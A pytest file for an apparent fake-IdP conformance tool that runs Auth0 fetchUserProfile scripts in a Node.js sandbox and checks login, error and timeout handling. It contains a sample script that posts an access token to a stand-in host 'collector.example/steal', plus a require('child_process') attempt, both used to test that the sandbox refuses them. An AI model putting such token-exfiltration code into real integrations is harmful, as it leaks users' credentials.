"""Auth0 ``fetchUserProfile`` scripts run in Node.js, as Auth0 runs them (issue 10, item 1).

The script's requests to the provider's real URLs are answered by the fake IdP;
the ``login`` check judges the profile the script called back with.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from fakeidp.client import from_auth0
from fakeidp.conformance import Engine, Report, load_target
from fakeidp.conformance.checks import catalogue
from fakeidp.conformance.scripted import Auth0ScriptTarget
from fakeidp.nodejs import NODE_MISSING, find_node
from fakeidp.providers import builtin_providers
from fakeidp.report.html import to_html
from fakeidp.report.markdown import to_markdown
from fakeidp.report.terminal import summary_lines

ROOT = Path(__file__).resolve().parents[2]
SEED_002 = ROOT / "tests" / "data" / "auth0_seed_002"
PROVIDERS = builtin_providers()
DO_UUID = "b6fr89dbf6d9156cace5f3c78dc9851d957381ef"

needs_node = pytest.mark.skipif(find_node() is None, reason="Node.js is not installed")


def connection_body(script: str) -> dict[str, Any]:
    return {
        "name": "digitalocean",
        "strategy": "oauth2",
        "options": {
            "client_id": "id",
            "client_secret": "secret",
            "authorizationURL": "https://cloud.digitalocean.com/v1/oauth/authorize",
            "tokenURL": "https://cloud.digitalocean.com/v1/oauth/token",
            "scope": "read",
            "scripts": {"fetchUserProfile": script},
        },
    }


def target_for(script: str, **kwargs: Any) -> Auth0ScriptTarget:
    connection = from_auth0(connection_body(script), client_id="from-test")
    return Auth0ScriptTarget(connection, name="test connection", **kwargs)


def run(target: Auth0ScriptTarget, checks: tuple[str, ...] = ("login",)) -> Report:
    chosen = [c for c in catalogue() if c.id in checks]
    with Engine(target, checks=chosen) as engine:
        return engine.run_all()


def login(report: Report) -> Any:
    [provider] = report.providers
    result = report.result(provider.id, "login")
    assert result is not None
    return result


# -- shapes the static reader cannot read ------------------------------------------------

TEMPLATE_LITERAL = """async function fetchUserProfile(accessToken, context, callback) {
  const base = `https://api.digitalocean.com`;
  request.get(`${base}/v2/account`, { headers: { Authorization: `Bearer ${accessToken}` } },
    (err, resp, body) => {
      if (err) return callback(err);
      if (resp.statusCode !== 200) return callback(new Error(body));
      const { account } = JSON.parse(body);
      callback(null, { user_id: account.uuid, email: account.email });
    });
}"""

OPTIONS_OBJECT = """function (accessToken, ctx, cb) {
  var options = { method: 'GET', json: true, auth: { bearer: accessToken } };
  options.url = ['https:', '', 'api.digitalocean.com', 'v2', 'account'].join('/');
  request(options, function (e, r, body) {
    if (e) return cb(e);
    if (r.statusCode !== 200) return cb(new Error('StatusCode: ' + r.statusCode));
    cb(null, Object.assign({}, body.account, { user_id: body.account['uu' + 'id'] }));
  });
}"""

HELPER_FUNCTION = """function (accessToken, ctx, cb) {
  function getJson(path, done) {
    request.get({ url: 'https://api.digitalocean.com' + path, json: true,
                  headers: { 'Authorization': 'Bearer ' + accessToken } },
      function (e, r, b) {
        if (e) return done(e);
        if (r.statusCode !== 200) return done(new Error('HTTP ' + r.statusCode));
        done(null, b);
      });
  }
  function toUser(account) { return { user_id: account.uuid, name: account.email }; }
  getJson('/v2/account', function (e, b) { return e ? cb(e) : cb(null, toUser(b.account)); });
}"""


@needs_node
@pytest.mark.parametrize(
    "script",
    [TEMPLATE_LITERAL, OPTIONS_OBJECT, HELPER_FUNCTION],
    ids=["template-literal", "options-object", "helper-function"],
)
def test_scripts_in_any_shape_log_in_with_the_right_user_id(script: str) -> None:
    target = target_for(script)
    report = run(target, ("login", "profile.request"))
    assert login(report).status == "pass", login(report).message
    assert login(report).actual == DO_UUID
    profile = report.result("digitalocean", "profile.request")
    assert profile is not None and profile.status == "pass", profile.message
    # The script's own request reached the fake IdP and was judged like any other.
    [call] = [e for e in profile.evidence if e["endpoint"] == "account"]
    assert call["headers"]["Authorization"] == "Bearer [redacted]"
    assert "python-requests" not in json.dumps(call["headers"])


# -- scripts with real bugs ---------------------------------------------------------------


@needs_node
def test_a_wrong_property_path_fails_login_naming_the_missing_user_id() -> None:
    # DigitalOcean's account has no `id` (PROVIDERS.md §1: the id is account.uuid).
    script = TEMPLATE_LITERAL.replace("account.uuid", "account.id")
    result = login(run(target_for(script)))
    assert result.status == "fail"
    assert "has no user_id" in result.message
    assert "it has email" in result.message


@needs_node
def test_a_wrong_auth_scheme_fails_with_the_scripts_own_message_and_line() -> None:
    script = HELPER_FUNCTION.replace("'Bearer ' + accessToken", "'token ' + accessToken")
    report = run(target_for(script), ("login", "profile.request"))
    result = login(report)
    assert result.status == "fail"
    assert "fetchUserProfile failed: HTTP 401 (fetchUserProfile.js, line 7)" in result.message
    profile = report.result("digitalocean", "profile.request")
    assert profile is not None and profile.status == "fail"
    assert "api.profile.auth_scheme" in profile.message


@needs_node
def test_no_error_handling_for_a_401_is_a_crash_at_its_line() -> None:
    script = """function (accessToken, ctx, cb) {
  request.get('https://api.digitalocean.com/v2/account',
    { headers: { Authorization: 'Bearer ' + accessToken } }, function (e, r, b) {
      var account = JSON.parse(b).account;
      cb(null, { user_id: account.uuid });
    });
}"""
    target = target_for(script)
    with Engine(target, checks=[c for c in catalogue() if c.id == "login"]) as engine:
        engine.idp.fault("digitalocean", "account", kind="expired_token", persistent=True)
        # The engine resets the IdP per scenario; run the login check by hand instead.
        report = engine.new_report()
        (scenario,) = engine.scenarios()
        engine.idp.reset = lambda: None  # type: ignore[method-assign]
        report.add(engine.run(scenario))
    result = login(report)
    assert result.status == "fail"
    assert "Cannot read properties of undefined (reading 'uuid')" in result.message
    assert "(fetchUserProfile.js, line 5)" in result.message


# -- bad input: the run goes on ------------------------------------------------------------


@needs_node
@pytest.mark.parametrize(
    ("script", "message"),
    [
        ("function (accessToken, ctx, cb) { request.get( }", "Unexpected token"),
        (
            "function (accessToken, ctx, cb) { /* never calls back */ }",
            "did not call back within 0.5 s",
        ),
        (
            "function (accessToken, ctx, cb) { while (true) {} }",
            "Script execution timed out after 500ms",
        ),
        (
            "function (accessToken, ctx, cb) { setTimeout(function () { for (;;) {} }, 0); }",
            "did not call back within 0.5 s",
        ),
        (
            "function (accessToken, ctx, cb) { throw new Error('boom'); }",
            "boom (fetchUserProfile.js, line 1)",
        ),
        ("function (accessToken, ctx, cb) { cb(null, 'not a profile'); }", "called back with str"),
        ("function (a, c, cb) { require('child_process'); }", "Cannot find module 'child_process'"),
    ],
    ids=["syntax", "no-callback", "sync-loop", "async-loop", "throws", "not-object", "require"],
)
def test_broken_scripts_fail_login_with_the_reason_and_the_run_goes_on(
    script: str, message: str
) -> None:
    report = run(target_for(script, timeout=0.5), ("login", "authorize.state"))
    result = login(report)
    assert result.status == "fail"
    assert message in result.message
    state = report.result("digitalocean", "authorize.state")
    assert state is not None and state.status == "pass"


@needs_node
def test_a_script_that_calls_another_host_is_refused_by_name() -> None:
    script = """function (accessToken, ctx, cb) {
  request.post({ url: 'https://collector.example/steal', form: { token: accessToken } },
    function (e) { if (e) return cb(e); cb(null, { user_id: 'x' }); });
}"""
    result = login(run(target_for(script)))
    assert result.status == "fail"
    assert "collector.example is not DigitalOcean's" in result.message


# -- the seed 002 connections, their scripts executed --------------------------------------


def seed_target(name: str) -> Auth0ScriptTarget:
    text = (SEED_002 / f"{name}.har.json").read_text()
    secret = None
    if name == "jira":  # the example's placeholders, replaced as its text says to
        text = text.replace("JIRA_URL", "https://jira.example.com")
        secret = PROVIDERS["jira"].oauth1.test_private_key  # type: ignore[union-attr]
    connection = from_auth0(text, forgiving=True, client_id="from-seed", client_secret=secret)
    return Auth0ScriptTarget(connection, name=f"seed 002 {name}")


@needs_node
@pytest.mark.parametrize("name", sorted(p.name.split(".")[0] for p in SEED_002.glob("*.har.json")))
def test_seed_002_connections_run_their_scripts(name: str) -> None:
    target = seed_target(name)
    report = run(target, ("login", "profile.request"))
    result = login(report)
    assert target.last_run is not None and target.last_run.ok, target.last_run
    assert target.last_run.calls, "the script made no request"
    assert all(c.url.startswith("https://") for c in target.last_run.calls)
    assert result.status in ("pass", "warning"), result.message
    assert report.notes == []


def test_without_node_the_static_reading_runs_and_every_script_result_says_so(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("FAKEIDP_NODE", str(tmp_path / "no-node-here"))
    path = tmp_path / "do.json"
    path.write_text(json.dumps(connection_body(TEMPLATE_LITERAL.replace("async ", ""))))
    target = load_target(f"auth0:{path}")
    assert isinstance(target, Auth0ScriptTarget) and not target.executes
    report = run(target, ("login", "authorize.state"))
    assert report.notes == [f"{NODE_MISSING}: the fetchUserProfile script was read, not run"]
    assert NODE_MISSING in login(report).message
    state = report.result("digitalocean", "authorize.state")
    assert state is not None and NODE_MISSING not in state.message
    # Every report says it at the top, and a merged (xdist) report keeps it.
    assert NODE_MISSING in summary_lines(report)[2]
    assert NODE_MISSING in to_markdown(report).split("|", 1)[0]
    assert NODE_MISSING in to_html(report).split("<table>", 1)[0]
    again = Report.merged([Report.from_dict(report.to_dict()), report])
    assert again.notes == report.notes
